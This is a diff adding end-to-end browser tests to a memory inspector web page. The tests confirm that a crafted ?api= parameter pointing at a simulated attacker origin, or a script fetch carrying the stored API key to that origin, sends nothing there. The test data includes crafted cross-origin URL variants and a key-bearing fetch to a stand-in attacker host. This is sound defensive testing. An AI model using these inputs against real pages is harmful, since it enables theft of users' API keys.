@@ -1,6 +1,8 @@
 """The memory inspector in a real headless browser (Debian's chromium and chromedriver, driven by
 selenium) against a local server seeded with a Korean conversation: enter the key, see the
-memories, run a search and read the score parts, delete a dialog and see the cascade.
+memories, run a search and read the score parts, delete a dialog and see the cascade. And the page
+served as a bucket would serve it (no headers) with a crafted `?api=` on another origin: nothing
+reaches that origin, the stored key least of all.
 
 Screenshots go to $MEMORY_ENGINE_ARTIFACTS (default: the test's tmp dir, printed on failure);
 `INSPECTOR_SCREENSHOT=docs/img/inspector.png` also writes the README's picture.
@@ -8,16 +10,20 @@ Screenshots go to $MEMORY_ENGINE_ARTIFACTS (default: the test's tmp dir, printed
 
 from __future__ import annotations
 
+import functools
 import os
 import shutil
 import tempfile
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
-from urllib.parse import urlencode
+from urllib.parse import quote, urlencode
 
 import pytest
 
+from memory_engine_app.server.inspector_assets import INSPECTOR_FOLDER
 from tests.e2e.conftest import API_KEY, LocalServer, wait_for
 
 pytestmark = pytest.mark.e2e
@@ -240,3 +246,90 @@ def test_the_queue_tab_lists_the_local_queue(seeded: LocalServer, browser: Any) 
     panel = find(browser, "#panel-queue h2")
     assert "Pending jobs" in panel.text
     assert "cannot list" not in find(browser, "#panel-queue").text  # the local queue lists its jobs
+
+
+# -- the key stays home ---------------------------------------------------------------------------
+
+
+class Listener(BaseHTTPRequestHandler):
+    """An attacker's origin: records every request and allows any cross-origin call (CORS)."""
+
+    seen: list[tuple[str, str, str | None]]
+
+    def _answer(self) -> None:
+        self.seen.append((self.command, self.path, self.headers.get("Authorization")))
+        self.send_response(200)
+        for name in ("Origin", "Headers", "Methods"):
+            self.send_header(
+                f"Access-Control-Allow-{name}", "*" if name != "Origin" else self.headers.get("Origin", "*")
+            )
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"{}")
+
+    do_GET = do_POST = do_OPTIONS = do_DELETE = _answer
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+class Bucket(SimpleHTTPRequestHandler):
+    """The inspector's files as S3 behind CloudFront without a headers policy serves them."""
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def served(request: pytest.FixtureRequest) -> Iterator[tuple[str, str, list[tuple[str, str, str | None]]]]:
+    """(the page's URL on a bare static server, the listener's origin, what the listener got)."""
+    seen: list[tuple[str, str, str | None]] = []
+    listener = ThreadingHTTPServer(("127.0.0.1", 0), type("Seen", (Listener,), {"seen": seen}))
+    bucket = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Bucket, directory=str(INSPECTOR_FOLDER)))
+    for server in (listener, bucket):
+        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    try:
+        yield (
+            f"http://127.0.0.1:{bucket.server_address[1]}/index.html",
+            f"127.0.0.1:{listener.server_address[1]}",
+            seen,
+        )
+    finally:
+        for server in (listener, bucket):
+            server.shutdown()
+            server.server_close()
+
+
+@pytest.mark.parametrize("crafted", ["http://{host}", "//{host}", "/\\{host}", "http://{host}/prod"])
+def test_a_crafted_api_on_another_origin_sends_nothing_there(
+    browser: Any, served: tuple[str, str, list[tuple[str, str, str | None]]], crafted: str
+) -> None:
+    page, host, seen = served
+    # Given a tab that holds a key, on the page served with no headers at all
+    browser.get(page)
+    browser.execute_script(f"sessionStorage.setItem('memory-engine-inspector-key', '{API_KEY}')")
+    # When a crafted link opens the page with ?api= on the attacker's origin, and the user presses
+    # Connect (the form submitted, whether its button is enabled or not)
+    browser.get(f"{page}?api={quote(crafted.format(host=host), safe='')}")
+    find(browser, "#status")
+    browser.execute_script("document.getElementById('connect').requestSubmit()")
+    browser.execute_script("return new Promise((done) => setTimeout(done, 1500))")
+    # Then nothing reached that origin (no preflight, no key), and the page says why
+    assert seen == []
+    assert "its own origin" in find(browser, "#status").text
+
+
+def test_the_pages_own_policy_blocks_a_call_to_another_origin_even_from_script(
+    browser: Any, served: tuple[str, str, list[tuple[str, str, str | None]]]
+) -> None:
+    page, host, seen = served
+    browser.get(page)
+
+    outcome = browser.execute_async_script(
+        "const done = arguments[arguments.length - 1];"
+        f"fetch('http://{host}/v1/inspect/threads', {{headers: {{Authorization: 'Bearer {API_KEY}'}}}})"
+        ".then(() => done('sent'), () => done('blocked'));"
+    )
+
+    assert outcome == "blocked" and seen == []
